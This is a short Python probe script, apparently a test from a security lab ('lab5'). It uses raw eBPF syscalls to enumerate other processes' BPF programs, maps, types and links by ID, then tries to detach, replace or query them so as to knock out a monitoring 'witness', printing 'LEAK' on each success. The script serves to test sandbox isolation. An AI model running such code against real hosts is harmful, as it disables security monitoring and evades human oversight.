# attack: Opens others' programs, maps, links and types by their ids, to detach or replace the witness.
# lab: lab5
# earns: 5.1 5.2 5.3 5.4 5.5

import ctypes
import os
import struct

libc = ctypes.CDLL(None)


def bpf(command, *numbers):
    data = struct.pack(f"{len(numbers)}I", *numbers).ljust(64, b"\0")
    return libc.syscall(321, command, ctypes.create_string_buffer(data, 64), 64)


for command, kind in {13: "program", 14: "map", 19: "types", 30: "link"}.items():
    for number in range(1, 3000):
        descriptor = bpf(command, number)
        if descriptor >= 0:
            print("LEAK", kind, number, flush=True)
            print(bpf(34, descriptor), bpf(29, descriptor, descriptor), bpf(22, descriptor), flush=True)
            os.close(descriptor)
for pid in range(1, 3000):
    for descriptor in range(3, 8):
        if bpf(20, pid, descriptor) == 0 and pid != os.getpid():
            print("LEAK what", pid, "has attached", flush=True)
if bpf(32, 0) >= 0:
    print("LEAK statistics", flush=True)
raise SystemExit(3)
